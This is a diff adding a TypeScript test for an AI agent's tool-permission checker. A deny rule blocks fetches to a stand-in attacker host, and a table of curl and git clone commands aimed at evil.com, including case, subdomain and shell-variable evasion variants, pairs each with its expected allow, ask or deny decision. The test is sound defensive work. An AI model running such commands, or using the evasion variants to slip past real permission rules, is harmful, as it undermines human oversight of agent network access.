@@ -1,0 +1,41 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell texts.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { verdictOn } from './hearings';
+
+function decisionOn(command: string): string {
+  const rules = { allow: ['Bash'], ask: [], deny: ['WebFetch(evil.com)'] };
+  return verdictOn({ tool: 'Bash', input: { command }, rules }).decision;
+}
+
+test('speakingUrl: a host that is known is denied, one that is not may be the denied one', () => {
+  const rows: readonly (readonly [command: string, decision: string])[] = [
+    ['curl https://evil.com', 'deny'],
+    ['curl evil.com/x', 'deny'],
+    ['curl a.evil.com', 'deny'],
+    ['curl EVIL.com.', 'deny'],
+    ['git clone git@evil.com:x', 'deny'],
+    ['curl "https://evil.com/$x"', 'deny'],
+    ['curl "https://evil.com?$x"', 'deny'],
+    ['curl "https://evil.com#$x"', 'deny'],
+    ['curl "HTTPS://evil.com/$x"', 'deny'],
+    ['u=https://evil.com; curl "$u"', 'deny'],
+    ['curl "https://evil.com$x"', 'deny'],
+    ['curl "https://ev$x"', 'ask'],
+    ['curl "$x/https://good.com/"', 'ask'],
+    ['curl "a https://good.com/$x"', 'ask'],
+    ['curl "$x"', 'ask'],
+    ['curl $x', 'ask'],
+    ['curl https://good.com/$x', 'ask'],
+    ['curl https://good.com', 'allow'],
+    ['curl "https://good.com/$x"', 'allow'],
+    ['curl https://notevil.com', 'allow'],
+    ['curl https://evil.com.org', 'allow'],
+    ['curl file:///evil.com', 'allow'],
+    ['git clone ./evil.com', 'allow'],
+    ['git clone ../evil.com', 'allow'],
+  ];
+  for (const [command, decision] of rows) {
+    assert.equal(decisionOn(command), decision, command);
+  }
+});
